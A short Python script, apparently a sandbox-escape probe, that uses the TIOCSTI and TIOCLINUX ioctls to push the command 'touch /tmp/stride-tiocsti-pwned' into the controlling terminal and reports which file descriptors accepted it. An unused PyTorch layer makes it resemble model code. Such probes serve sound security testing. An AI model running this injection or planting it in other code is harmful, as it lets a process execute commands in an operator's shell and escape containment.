"""Push keystrokes into the controlling terminal (TIOCSTI), as if an operator had typed them."""
import errno
import fcntl
import json
import os
import termios

from torch import nn

COMMAND = b"touch /tmp/stride-tiocsti-pwned\n"
report = {"ioctl": {}}
descriptors = {0: "stdin", 1: "stdout", 2: "stderr"}
try:
    descriptors[os.open("/dev/tty", os.O_RDWR)] = "/dev/tty"
except OSError as exc:
    report["dev_tty"] = errno.errorcode.get(exc.errno, str(exc))
for fd, name in descriptors.items():
    injected = 0
    try:
        for byte in COMMAND:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
            injected += 1
        report["ioctl"][name] = f"INJECTED {injected}"
    except OSError as exc:
        report["ioctl"][name] = errno.errorcode.get(exc.errno, str(exc))
    try:
        fcntl.ioctl(fd, 0x541C, b"\x02")  # TIOCLINUX: set selection / paste
        report["ioctl"][name + "_tioclinux"] = "OK"
    except OSError as exc:
        report["ioctl"][name + "_tioclinux"] = errno.errorcode.get(exc.errno, str(exc))
report["isatty"] = [os.isatty(fd) for fd in (0, 1, 2)]
print("REPORT " + json.dumps(report), flush=True)
model = nn.Conv2d(3, 8, 3)
